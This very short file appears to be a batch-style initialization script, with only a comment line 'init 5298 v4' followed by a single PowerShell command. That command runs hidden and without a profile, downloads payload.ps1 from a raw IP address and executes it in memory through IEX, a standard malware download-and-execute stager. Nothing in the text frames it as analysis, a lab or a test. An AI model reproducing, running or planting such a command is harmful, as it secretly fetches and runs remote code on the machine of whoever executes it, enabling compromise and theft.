REM init 5298 v4
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')"
